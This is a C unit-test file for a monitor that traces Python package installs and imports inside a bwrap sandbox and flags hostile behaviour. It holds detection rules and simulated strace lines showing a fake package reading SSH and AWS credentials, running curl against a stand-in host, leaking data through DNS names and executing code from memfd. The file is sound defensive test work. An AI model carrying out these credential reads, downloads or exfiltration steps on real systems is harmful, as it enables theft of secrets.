#define _GNU_SOURCE
/*
 * Unit tests of monitor.c: hand-written strace lines (as strace 6.1 prints
 * them with -f -q -yy --decode-pids=pidns) fed through monitor_feed; the
 * process tree, attribution, classification and findings they must give
 * were worked out by hand from the trace and the rules below.
 */
#include "testutil.h"
#include "monitor.h"
#include "proctree.h"
#include "rules.h"

static const char test_rules[] =
	"rule ssh-private-key\n"
	"category credentials\n"
	"severity critical\n"
	"description SSH private key exfiltration.\n"
	"explanation The package might be trying to steal your Secure Shell private keys.\n"
	"match read,write,probe ~/.ssh/**\n"
	"\n"
	"rule aws-credentials\n"
	"category credentials\n"
	"severity critical\n"
	"description AWS credentials theft.\n"
	"explanation The package might be trying to steal your AWS keys.\n"
	"match read,write,probe ~/.aws/**\n"
	"\n"
	"rule passwd-read\n"
	"category recon\n"
	"severity low\n"
	"description Reads the user database.\n"
	"explanation Usually harmless.\n"
	"match read /etc/passwd\n"
	"\n"
	"rule exec-downloader\n"
	"category exec\n"
	"severity high\n"
	"description Runs a downloader.\n"
	"explanation The package might be fetching a second stage.\n"
	"match exec curl wget\n"
	"\n"
	"rule net-import\n"
	"category network\n"
	"severity high\n"
	"description Network access during import.\n"
	"explanation Importing a library should not talk to the network.\n"
	"phase import,startup\n"
	"match connect any\n"
	"\n"
	"rule net-unexpected-peer\n"
	"category network\n"
	"severity high\n"
	"description Connection to an unexpected host.\n"
	"explanation Only the package index should be contacted.\n"
	"phase install,build\n"
	"match connect unlisted\n"
	"\n"
	"rule dns-odd-name\n"
	"category network\n"
	"severity high\n"
	"description DNS query with an odd name.\n"
	"explanation Data might be leaving in DNS names.\n"
	"match dns *.exfil.example\n"
	"\n"
	"rule memfd-exec\n"
	"category exec\n"
	"severity critical\n"
	"description Runs code from memory.\n"
	"explanation Fileless execution hides a payload.\n"
	"when after-memfd\n"
	"match exec any\n";

struct fixture {
	struct ruleset *rs;
	struct scan_result res;
	struct monitor_config cfg;
	struct monitor_state *st;
};

static const char *const allowed[] = {"127.0.0.1:8080", "10.0.0.53:53", NULL};

static struct fixture *setup(const char *phase)
{
	struct fixture *f = calloc(1, sizeof(*f));
	f->rs = ruleset_new();
	assert_int_equal(ruleset_load_string(f->rs, "test.rules", test_rules), 0);
	f->cfg.phase = phase;
	f->cfg.home = "/home/u";
	f->cfg.rules = f->rs;
	f->cfg.stop_at = SEV_MEDIUM;
	f->cfg.allowed_peers = allowed;
	f->cfg.timeout = 10;
	f->cfg.build_root = "/tmp";
	f->cfg.info_fd = -1;
	f->st = monitor_state_new(&f->cfg, &f->res);
	return f;
}

static void teardown(struct fixture *f)
{
	monitor_state_free(f->st);
	scan_result_clear(&f->res);
	ruleset_free(f->rs);
	free(f);
}

static int feed(struct fixture *f, const char *line)
{
	return monitor_feed(f->st, line, strlen(line));
}

/* The start every trace has: bwrap, its pid-namespace child, the command. */
static void bwrap_start(struct fixture *f, const char *cmd_execve)
{
	assert_int_equal(feed(f, "100 execve(\"/usr/bin/bwrap\", [\"bwrap\", \"--unshare-all\", \"--\", \"/venv/bin/python\"], 0x7ffd /* 30 vars */) = 0"), 0);
	assert_int_equal(feed(f, "100 clone(child_stack=NULL, flags=CLONE_NEWNS|CLONE_NEWCGROUP|CLONE_NEWUTS|CLONE_NEWIPC|CLONE_NEWUSER|CLONE_NEWPID|CLONE_NEWNET|SIGCHLD) = 101"), 0);
	/* bwrap's own setup is not the package's: a decoy-looking path */
	assert_int_equal(feed(f, "101 mkdir(\"/newroot/home/u/.ssh\", 0700) = 0"), 0);
	assert_int_equal(feed(f, "101 creat(\"/home/u/.ssh/id_rsa\", 0600) = 5</newroot/home/u/.ssh/id_rsa>"), 0);
	assert_int_equal(feed(f, "101 chdir(\"/\") = 0"), 0);
	assert_int_equal(feed(f, "101 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x7f7acedc6490) = 2 /* 102 in strace's PID NS */"), 0);
	assert_int_equal(feed(f, cmd_execve), 0);
}

static const char pip_execve[] =
	"102 execve(\"/venv/bin/python\", [\"/venv/bin/python\", \"-m\", \"pip\", \"install\", \"-r\", \"/work/req.txt\"], 0x7ffd /* 5 vars */) = 0";

static void test_install_attribution_and_finding(void **state)
{
	struct fixture *f = setup("install");
	struct proctree *t = monitor_state_tree(f->st);
	struct proc *p;

	bwrap_start(f, pip_execve);
	assert_int_equal(monitor_state_sandbox_init(f->st), 101);
	assert_true(proctree_get(t, 100)->trusted);
	assert_true(proctree_get(t, 101)->trusted);
	p = proctree_get(t, 102);
	assert_non_null(p);
	assert_false(p->trusted);
	assert_int_equal(p->ppid, 101);
	assert_int_equal(p->nspid, 2);
	assert_string_equal(p->package, "pip");
	assert_string_equal(p->phase, "install");
	assert_string_equal(p->argv, "/venv/bin/python -m pip install -r /work/req.txt");
	assert_int_equal(f->res.nr_findings + f->res.nr_notes, 0);

	/* pip's working directory, from the -yy cwd of AT_FDCWD */
	assert_int_equal(feed(f, "102 openat(AT_FDCWD</work>, \"/work/req.txt\", O_RDONLY|O_CLOEXEC) = 3</work/req.txt>"), 0);
	assert_string_equal(proctree_get(t, 102)->cwd, "/work");

	/* pip forks the PEP 517 hook: the child's lines come before the
	 * parent's vfork returns, so the parent is the pending vfork. */
	assert_int_equal(feed(f, "102 vfork( <unfinished ...>"), 0);
	assert_int_equal(feed(f, "103 chdir(\"/tmp/pip-install-k2j3/evilpack_0123456789abcdef0123456789abcdef\") = 0"), 0);
	assert_int_equal(feed(f, "103 execve(\"/venv/bin/python\", [\"/venv/bin/python\", \"/venv/lib/python3.11/site-packages/pip/_vendor/pyproject_hooks/_in_process/_in_process.py\", \"get_requires_for_build_wheel\", \"/tmp/tmpa1b2\"], 0x55 /* 5 vars */ <unfinished ...>"), 0);
	assert_int_equal(feed(f, "102 <... vfork resumed>) = 3 /* 103 in strace's PID NS */"), 0);
	assert_int_equal(feed(f, "103 <... execve resumed>) = 0"), 0);
	p = proctree_get(t, 103);
	assert_non_null(p);
	assert_int_equal(p->ppid, 102);
	assert_int_equal(p->nspid, 3);
	assert_string_equal(p->package, "evilpack");
	assert_string_equal(p->phase, "build");
	/* pip itself stays pip */
	assert_string_equal(proctree_get(t, 102)->package, "pip");

	/* The build moves away and reads a decoy through a dotted path: still
	 * the build of evilpack (sticky), path normalised. A low rule is a
	 * note, given once. */
	assert_int_equal(feed(f, "103 chdir(\"/\") = 0"), 0);
	assert_int_equal(feed(f, "103 openat(AT_FDCWD</>, \"/etc/passwd\", O_RDONLY|O_CLOEXEC) = 3</etc/passwd>"), 0);
	assert_int_equal(feed(f, "103 openat(AT_FDCWD</>, \"/etc/passwd\", O_RDONLY|O_CLOEXEC) = 3</etc/passwd>"), 0);
	assert_int_equal(f->res.nr_notes, 1);
	assert_string_equal(f->res.notes[0].rule_id, "passwd-read");
	assert_string_equal(f->res.notes[0].package, "evilpack");
	assert_int_equal(feed(f, "103 openat(AT_FDCWD</>, \"home/u/.cache/../.ssh/./id_rsa\", O_RDONLY) = 3</home/u/.ssh/id_rsa>"), 1);
	assert_int_equal(f->res.nr_findings, 1);
	assert_true(f->res.stopped);
	struct finding *fd = &f->res.findings[0];
	assert_string_equal(fd->rule_id, "ssh-private-key");
	assert_string_equal(fd->category, "credentials");
	assert_int_equal(fd->severity, SEV_CRITICAL);
	assert_string_equal(fd->description, "SSH private key exfiltration.");
	assert_string_equal(fd->shown_path, "/home/u/.ssh");
	assert_string_equal(fd->path, "/home/u/.ssh/id_rsa");
	assert_string_equal(fd->syscall, "openat");
	assert_string_equal(fd->package, "evilpack");
	assert_string_equal(fd->phase, "build");
	assert_int_equal(fd->pid, 103);
	assert_string_equal(fd->argv, "/venv/bin/python /venv/lib/python3.11/site-packages/pip/_vendor/pyproject_hooks/_in_process/_in_process.py get_requires_for_build_wheel /tmp/tmpa1b2");
	/* after the stop, nothing more is matched */
	assert_int_equal(feed(f, "103 openat(AT_FDCWD</>, \"/home/u/.aws/credentials\", O_RDONLY) = 4</home/u/.aws/credentials>"), 0);
	assert_int_equal(f->res.nr_findings, 1);
	teardown(f);
}

static void test_failed_attempt_and_symlinks(void **state)
{
	struct fixture *f = setup("install");
	bwrap_start(f, pip_execve);
	/* a failed open of a decoy still counts */
	assert_int_equal(feed(f, "102 openat(AT_FDCWD</work>, \"../home/u/.aws/credentials\", O_RDONLY) = -1 EACCES (Permission denied)"), 1);
	assert_string_equal(f->res.findings[0].path, "/home/u/.aws/credentials");
	assert_string_equal(f->res.findings[0].package, "pip");
	assert_string_equal(f->res.findings[0].phase, "install");
	teardown(f);

	/* a symlink to a decoy, read through the link: the kernel's fd path */
	f = setup("install");
	bwrap_start(f, pip_execve);
	assert_int_equal(feed(f, "102 openat(AT_FDCWD</work>, \"/tmp/innocent.txt\", O_RDONLY) = 3</home/u/.ssh/id_ed25519>"), 1);
	assert_string_equal(f->res.findings[0].path, "/home/u/.ssh/id_ed25519");
	teardown(f);

	/* making the symlink already names the decoy: target relative to
	 * the link's folder (/home/u/.cache/../.ssh/id_rsa) */
	f = setup("install");
	bwrap_start(f, pip_execve);
	assert_int_equal(feed(f, "102 symlinkat(\"../.ssh/id_rsa\", AT_FDCWD</work>, \"/home/u/.cache/k\") = 0"), 1);
	assert_string_equal(f->res.findings[0].path, "/home/u/.ssh/id_rsa");
	assert_string_equal(f->res.findings[0].syscall, "symlinkat");
	teardown(f);

	/* a hard link of a decoy, relative to a dirfd */
	f = setup("install");
	bwrap_start(f, pip_execve);
	assert_int_equal(feed(f, "102 linkat(5</home/u/.aws>, \"credentials\", AT_FDCWD</tmp>, \"c\", 0) = 0"), 1);
	assert_string_equal(f->res.findings[0].path, "/home/u/.aws/credentials");
	teardown(f);

	/* /proc/self/root and /proc/self/cwd aliases */
	f = setup("install");
	bwrap_start(f, pip_execve);
	assert_int_equal(feed(f, "102 chdir(\"/home/u\") = 0"), 0);
	assert_int_equal(feed(f, "102 newfstatat(AT_FDCWD</home/u>, \"/proc/self/cwd/.ssh\", 0x7ffd, 0) = -1 ENOENT (No such file or directory)"), 1);
	assert_string_equal(f->res.findings[0].path, "/home/u/.ssh");
	teardown(f);
}

static void test_exec_and_unknown_parent(void **state)
{
	struct fixture *f = setup("install");
	struct proctree *t = monitor_state_tree(f->st);
	bwrap_start(f, pip_execve);
	/* 104 appears with no pending fork and no /proc entry: default
	 * attribution (pip), never trusted */
	assert_int_equal(feed(f, "999999 execve(\"/usr/bin/curl\", [\"curl\", \"-s\", \"http://x.example/p\"], 0x55 /* 5 vars */) = 0"), 1);
	assert_false(proctree_get(t, 999999)->trusted);
	assert_string_equal(f->res.findings[0].rule_id, "exec-downloader");
	assert_string_equal(f->res.findings[0].argv, "curl -s http://x.example/p");
	assert_string_equal(f->res.findings[0].path, "/usr/bin/curl");
	assert_string_equal(f->res.findings[0].package, "pip");
	teardown(f);

	/* a failed exec attempt found on PATH is an attempt too */
	f = setup("install");
	bwrap_start(f, pip_execve);
	assert_int_equal(feed(f, "102 execve(\"/usr/local/bin/wget\", [\"wget\", \"x\"], 0x55 /* 5 vars */) = -1 ENOENT (No such file or directory)"), 1);
	assert_string_equal(f->res.findings[0].rule_id, "exec-downloader");
	/* and it did not change the process */
	assert_string_equal(proctree_get(monitor_state_tree(f->st), 102)->argv,
			    "/venv/bin/python -m pip install -r /work/req.txt");
	teardown(f);
}

static void test_threads_share_cwd(void **state)
{
	struct fixture *f = setup("install");
	struct proctree *t = monitor_state_tree(f->st);
	bwrap_start(f, pip_execve);
	assert_int_equal(feed(f, "102 clone3({flags=CLONE_VM|CLONE_FS|CLONE_FILES|CLONE_SIGHAND|CLONE_THREAD|CLONE_SYSVSEM|CLONE_SETTLS|CLONE_PARENT_SETTID|CLONE_CHILD_CLEARTID, child_tid=0x7f, parent_tid=0x7f, exit_signal=0, stack=0x7f, stack_size=0x7fff00, tls=0x7f} => {parent_tid=[4]}, 88) = 4 /* 105 in strace's PID NS */"), 0);
	assert_int_equal(proctree_get(t, 105)->tgid, 102);
	assert_int_equal(feed(f, "105 chdir(\"/srv\") = 0"), 0);
	assert_string_equal(proctree_get(t, 102)->cwd, "/srv");
	assert_int_equal(feed(f, "105 +++ exited with 0 +++"), 0);
	assert_false(proctree_get(t, 105)->alive);
	assert_true(proctree_get(t, 102)->alive);
	teardown(f);
}

static void test_import_attribution(void **state)
{
	struct fixture *f = setup("import");
	bwrap_start(f, "102 execve(\"/venv/bin/python\", [\"/venv/bin/python\", \"/probe/import_probe.py\", \"--dist\", \"evil-lib\"], 0x7ffd /* 5 vars */) = 0");
	struct proc *p = proctree_get(monitor_state_tree(f->st), 102);
	assert_string_equal(p->package, "evil-lib");
	assert_string_equal(p->phase, "import");
	/* any connect during import, even refused (no network) */
	assert_int_equal(feed(f, "102 connect(3<TCP:[12345]>, {sa_family=AF_INET, sin_port=htons(443), sin_addr=inet_addr(\"10.9.8.7\")}, 16) = -1 ENETUNREACH (Network is unreachable)"), 1);
	assert_string_equal(f->res.findings[0].rule_id, "net-import");
	assert_string_equal(f->res.findings[0].path, "10.9.8.7:443");
	assert_string_equal(f->res.findings[0].package, "evil-lib");
	assert_string_equal(f->res.findings[0].phase, "import");
	teardown(f);

	/* bare start: the .pth file that was opened last is the package */
	f = setup("import");
	bwrap_start(f, "102 execve(\"/venv/bin/python\", [\"/venv/bin/python\", \"-I\", \"/probe/import_probe.py\", \"--startup\"], 0x7ffd /* 5 vars */) = 0");
	p = proctree_get(monitor_state_tree(f->st), 102);
	assert_string_equal(p->package, ".pth at interpreter start");
	assert_string_equal(p->phase, "startup");
	assert_int_equal(feed(f, "102 openat(AT_FDCWD</>, \"/venv/lib/python3.11/site-packages/distutils-precedence.pth\", O_RDONLY|O_CLOEXEC) = 3</venv/lib/python3.11/site-packages/distutils-precedence.pth>"), 0);
	assert_int_equal(feed(f, "102 openat(AT_FDCWD</>, \"/venv/lib/python3.11/site-packages/zz_evil.pth\", O_RDONLY|O_CLOEXEC) = 3</venv/lib/python3.11/site-packages/zz_evil.pth>"), 0);
	assert_int_equal(feed(f, "102 openat(AT_FDCWD</>, \"/home/u/.ssh/id_rsa\", O_RDONLY|O_CLOEXEC) = 3</home/u/.ssh/id_rsa>"), 1);
	assert_string_equal(f->res.findings[0].package, "zz_evil.pth");
	assert_string_equal(f->res.findings[0].phase, "startup");
	teardown(f);
}

static void test_network_install(void **state)
{
	struct fixture *f = setup("install");
	bwrap_start(f, pip_execve);
	/* the index and the resolver are expected */
	assert_int_equal(feed(f, "102 connect(3<TCP:[9]>, {sa_family=AF_INET, sin_port=htons(8080), sin_addr=inet_addr(\"127.0.0.1\")}, 16) = 0"), 0);
	assert_int_equal(feed(f, "102 connect(4<UDP:[7]>, {sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr(\"10.0.0.53\")}, 16) = 0"), 0);
	/* netlink is not a peer */
	assert_int_equal(feed(f, "102 sendto(5<NETLINK:[27278]>, [{nlmsg_len=20, nlmsg_type=RTM_GETADDR, nlmsg_flags=NLM_F_REQUEST|NLM_F_DUMP, nlmsg_seq=1, nlmsg_pid=0}, {ifa_family=AF_UNSPEC, ...}], 20, 0, {sa_family=AF_NETLINK, nl_pid=0, nl_groups=00000000}, 12) = 20"), 0);
	assert_int_equal(f->res.nr_findings + f->res.nr_notes, 0);
	/* a DNS query on the connected resolver socket: id 0x1234, RD,
	 * one question "abc.exfil.example" A IN */
	assert_int_equal(feed(f, "102 sendto(4<UDP:[10.0.0.2:40000->10.0.0.53:53]>, \"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x03abc\\x05exfil\\x07example\\x00\\x00\\x01\\x00\\x01\", 35, MSG_NOSIGNAL, NULL, 0) = 35"), 1);
	assert_string_equal(f->res.findings[0].rule_id, "dns-odd-name");
	assert_string_equal(f->res.findings[0].path, "abc.exfil.example");
	teardown(f);

	/* A resolver that is not the configured one: the connect alone sends
	 * nothing and is not matched; the query is, with its name and its
	 * peer (a plain name passes the dns rule, the peer does not). */
	f = setup("install");
	bwrap_start(f, pip_execve);
	assert_int_equal(feed(f, "102 connect(4<UDP:[7]>, {sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr(\"127.0.0.53\")}, 16) = 0"), 0);
	assert_int_equal(f->res.nr_findings + f->res.nr_notes, 0);
	assert_int_equal(feed(f, "102 sendto(4<UDP:[127.0.0.1:40000->127.0.0.53:53]>, \"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x03www\\x07example\\x03org\\x00\\x00\\x01\\x00\\x01\", 33, MSG_NOSIGNAL, NULL, 0) = 33"), 1);
	assert_string_equal(f->res.findings[0].rule_id, "net-unexpected-peer");
	assert_string_equal(f->res.findings[0].path, "www.example.org");
	teardown(f);

	/* an unexpected peer over IPv6 */
	f = setup("install");
	bwrap_start(f, pip_execve);
	assert_int_equal(feed(f, "102 connect(3<TCPv6:[9]>, {sa_family=AF_INET6, sin6_port=htons(4444), sin6_flowinfo=htonl(0), inet_pton(AF_INET6, \"2001:db8::1\", &sin6_addr), sin6_scope_id=0}, 28) = -1 ENETUNREACH (Network is unreachable)"), 1);
	assert_string_equal(f->res.findings[0].rule_id, "net-unexpected-peer");
	assert_string_equal(f->res.findings[0].path, "[2001:db8::1]:4444");
	teardown(f);
}

static void test_memfd_exec(void **state)
{
	struct fixture *f = setup("import");
	bwrap_start(f, "102 execve(\"/venv/bin/python\", [\"/venv/bin/python\", \"/probe/import_probe.py\", \"--dist\", \"fileless\"], 0x7ffd /* 5 vars */) = 0");
	assert_int_equal(feed(f, "102 memfd_create(\"x\", MFD_CLOEXEC) = 3</memfd:x (deleted)>"), 0);
	assert_int_equal(feed(f, "102 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x7f) = 3 /* 106 in strace's PID NS */"), 0);
	/* the child inherits the fd and the memfd mark; the exec of
	 * /proc/self/fd/3 resolves to the memfd */
	assert_int_equal(feed(f, "106 execve(\"/proc/self/fd/3\", [\"x\"], 0x55 /* 1 var */) = 0"), 1);
	assert_string_equal(f->res.findings[0].rule_id, "memfd-exec");
	assert_string_equal(f->res.findings[0].package, "fileless");
	assert_string_equal(f->res.findings[0].path, "/memfd:x (deleted)");
	teardown(f);
}

static void test_decoders(void **state)
{
	struct strvec sv = STRVEC_INIT;
	struct strbuf sb = STRBUF_INIT;

	assert_true(monitor_decode_argv("[\"sh\", \"-c\", \"echo \\\"hi\\\"\\n\\x41\\101\"]", &sv));
	assert_int_equal(sv.nr, 3);
	assert_string_equal(sv.v[2], "echo \"hi\"\nAA");
	strvec_clear(&sv);
	/* a "]" or ", " inside a string is data */
	assert_true(monitor_decode_argv("[\"a, \\\"b\\\"]\", \"c\"...]", &sv));
	assert_int_equal(sv.nr, 2);
	assert_string_equal(sv.v[0], "a, \"b\"]");
	assert_string_equal(sv.v[1], "c");
	strvec_clear(&sv);
	assert_false(monitor_decode_argv("0x7ffd1234", &sv));
	assert_false(monitor_decode_argv("NULL", &sv));

	assert_true(monitor_decode_sockaddr("{sa_family=AF_UNIX, sun_path=\"/run/docker.sock\"}", &sb));
	assert_string_equal(sb.buf, "/run/docker.sock");
	assert_true(monitor_decode_sockaddr("{sa_family=AF_UNIX, sun_path=@\"dbus-x\"}", &sb));
	assert_string_equal(sb.buf, "@dbus-x");
	/* a file name that looks like an address is not one */
	assert_true(monitor_decode_sockaddr("{sa_family=AF_UNIX, sun_path=\"sin_port=htons(1)\"}", &sb));
	assert_string_equal(sb.buf, "sin_port=htons(1)");
	assert_false(monitor_decode_sockaddr("{sa_family=AF_NETLINK, nl_pid=0, nl_groups=00000000}", &sb));
	assert_false(monitor_decode_sockaddr("NULL", &sb));

	static const unsigned char q[] = {0xab, 0xcd, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0,
					  3, 'w', 'w', 'w', 2, 'e', 'x', 0, 0, 1, 0, 1};
	assert_true(monitor_decode_dns_query(q, sizeof(q), &sb));
	assert_string_equal(sb.buf, "www.ex");
	/* a response (QR set) and a label running past the end are not */
	unsigned char r[sizeof(q)];
	memcpy(r, q, sizeof(q));
	r[2] |= 0x80;
	assert_false(monitor_decode_dns_query(r, sizeof(r), &sb));
	assert_false(monitor_decode_dns_query(q, 15, &sb));
	strbuf_release(&sb);
}

/* ---- live runs: real bwrap under real strace (skipped without them) ---- */

#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/stat.h>
#include <sys/wait.h>

static bool can_sandbox(void)
{
	int rc = system("command -v strace >/dev/null 2>&1 && "
			"bwrap --unshare-all --ro-bind / / true >/dev/null 2>&1");
	return rc == 0;
}

/* Pids of processes whose command line holds marker (argv words joined
 * by NUL as in /proc/PID/cmdline). */
static int count_marked(const char *marker)
{
	DIR *d = opendir("/proc");
	struct dirent *e;
	int n = 0;
	assert_non_null(d);
	while ((e = readdir(d))) {
		char path[300], buf[4096];
		if (e->d_name[0] < '0' || e->d_name[0] > '9')
			continue;
		snprintf(path, sizeof(path), "/proc/%s/cmdline", e->d_name);
		int fd = open(path, O_RDONLY);
		if (fd < 0)
			continue;
		ssize_t len = read(fd, buf, sizeof(buf) - 1);
		close(fd);
		if (len <= 0)
			continue;
		buf[len] = '\0';
		for (ssize_t i = 0; i < len; i++)
			if (buf[i] == '\0')
				buf[i] = ' ';
		if (strstr(buf, marker))
			n++;
	}
	closedir(d);
	return n;
}

struct live {
	char dir[64];
	int info[2];
	char info_arg[16];
	struct strvec argv;
};

static struct live *g_live; /* removed by live_cleanup even on failure */

/* bwrap with a read-only home at /home/u holding the decoy .ssh/id_rsa
 * (created here), the pid namespace's info on a pipe, then sh -c script. */
static void live_setup(struct live *lv, const char *script)
{
	char path[128];
	strcpy(lv->dir, "/tmp/pipcanary-montest-XXXXXX");
	assert_non_null(mkdtemp(lv->dir));
	g_live = lv;
	snprintf(path, sizeof(path), "%s/.ssh", lv->dir);
	assert_int_equal(mkdir(path, 0700), 0);
	free(write_tmp(path, "id_rsa", "CANARY-NOT-A-KEY\n", 17));
	assert_int_equal(pipe2(lv->info, O_CLOEXEC), 0);
	/* bwrap (under strace) inherits the write end */
	fcntl(lv->info[1], F_SETFD, 0);
	snprintf(lv->info_arg, sizeof(lv->info_arg), "%d", lv->info[1]);
	memset(&lv->argv, 0, sizeof(lv->argv));
	strvec_pushl(&lv->argv, "bwrap", "--unshare-all", "--die-with-parent",
		     "--new-session", "--cap-drop", "ALL", "--ro-bind", "/usr",
		     "/usr", "--symlink", "usr/bin", "/bin", "--symlink",
		     "usr/lib", "/lib", "--symlink", "usr/lib64", "/lib64",
		     "--proc", "/proc", "--dev", "/dev", "--tmpfs", "/tmp",
		     "--ro-bind", lv->dir, "/home/u", "--info-fd",
		     lv->info_arg, "--chdir", "/", "--", "/bin/sh", "-c",
		     script, NULL);
}

static void live_teardown(struct live *lv)
{
	close(lv->info[0]);
	close(lv->info[1]);
	strvec_clear(&lv->argv);
	g_live = NULL;
	assert_int_equal(rm_rf(lv->dir), 0);
}

static int live_cleanup(void **state)
{
	if (g_live)
		live_teardown(g_live);
	return 0;
}

static void test_live_whole_stream(void **state)
{
	struct live lv;
	struct fixture *f;
	struct monitor_outcome out;

	if (!can_sandbox())
		skip();
	/* Every process of the sandbox is seen, attributed to the sdist whose
	 * build folder the shell runs in: no finding, a low note for the
	 * /etc/passwd read by a grandchild of the sandbox's sh. */
	live_setup(&lv, "mkdir -p /tmp/pip-install-q/demo_0123456789abcdef0123456789abcdef && "
			"cd /tmp/pip-install-q/demo_0123456789abcdef0123456789abcdef && "
			"exec /bin/sh -c 'cat /etc/passwd >/dev/null 2>&1; (cat /usr/lib/os-release >/dev/null); exit 3'");
	f = setup("install");
	f->cfg.info_fd = lv.info[0];
	assert_int_equal(monitor_run((const char *const *)lv.argv.v, &f->cfg,
				     &f->res, &out), 0);
	assert_false(out.finding);
	assert_false(out.timed_out);
	assert_int_equal(out.exit_status, 3);
	assert_true(out.lines > 20);
	assert_int_equal(f->res.nr_findings, 0);
	assert_int_equal(f->res.nr_notes, 1);
	assert_string_equal(f->res.notes[0].rule_id, "passwd-read");
	assert_string_equal(f->res.notes[0].path, "/etc/passwd");
	assert_string_equal(f->res.notes[0].package, "demo");
	assert_string_equal(f->res.notes[0].phase, "build");
	assert_string_equal(f->res.notes[0].argv, "cat /etc/passwd");
	teardown(f);
	live_teardown(&lv);
}

static void test_live_finding_kills_everything(void **state)
{
	struct live lv;
	struct fixture *f;
	struct monitor_outcome out;

	if (!can_sandbox())
		skip();
	/* A double-forked, setsid daemon is started first; then the decoy is
	 * read. Nothing may survive the kill. */
	live_setup(&lv, "(setsid sleep 271.828 >/dev/null 2>&1 &); sleep 0.3; "
			"cat /home/u/.ssh/id_rsa >/dev/null; sleep 314.159");
	f = setup("import");
	f->cfg.info_fd = lv.info[0];
	assert_int_equal(monitor_run((const char *const *)lv.argv.v, &f->cfg,
				     &f->res, &out), 0);
	assert_true(out.finding);
	assert_int_equal(out.exit_status, -1);
	assert_int_equal(f->res.nr_findings, 1);
	assert_true(f->res.stopped);
	assert_string_equal(f->res.findings[0].rule_id, "ssh-private-key");
	assert_string_equal(f->res.findings[0].path, "/home/u/.ssh/id_rsa");
	assert_string_equal(f->res.findings[0].shown_path, "/home/u/.ssh");
	assert_string_equal(f->res.findings[0].argv, "cat /home/u/.ssh/id_rsa");
	assert_string_equal(f->res.findings[0].phase, "import");
	assert_int_equal(count_marked("sleep 271.828"), 0);
	assert_int_equal(count_marked("sleep 314.159"), 0);
	teardown(f);
	live_teardown(&lv);
}

static void test_live_time_limit(void **state)
{
	struct live lv;
	struct fixture *f;
	struct monitor_outcome out;

	if (!can_sandbox())
		skip();
	live_setup(&lv, "(setsid sleep 271.829 >/dev/null 2>&1 &); sleep 314.158");
	f = setup("install");
	f->cfg.info_fd = lv.info[0];
	f->cfg.timeout = 1;
	assert_int_equal(monitor_run((const char *const *)lv.argv.v, &f->cfg,
				     &f->res, &out), 0);
	assert_false(out.finding);
	assert_true(out.timed_out);
	assert_int_equal(out.exit_status, -1);
	assert_string_equal(f->res.limit_hit, "install phase time limit (1 s)");
	assert_string_equal(f->res.limit_package, "pip");
	assert_int_equal(count_marked("sleep 271.829"), 0);
	assert_int_equal(count_marked("sleep 314.158"), 0);
	teardown(f);
	live_teardown(&lv);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_install_attribution_and_finding),
		cmocka_unit_test(test_failed_attempt_and_symlinks),
		cmocka_unit_test(test_exec_and_unknown_parent),
		cmocka_unit_test(test_threads_share_cwd),
		cmocka_unit_test(test_import_attribution),
		cmocka_unit_test(test_network_install),
		cmocka_unit_test(test_memfd_exec),
		cmocka_unit_test(test_decoders),
		cmocka_unit_test_teardown(test_live_whole_stream, live_cleanup),
		cmocka_unit_test_teardown(test_live_finding_kills_everything, live_cleanup),
		cmocka_unit_test_teardown(test_live_time_limit, live_cleanup),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
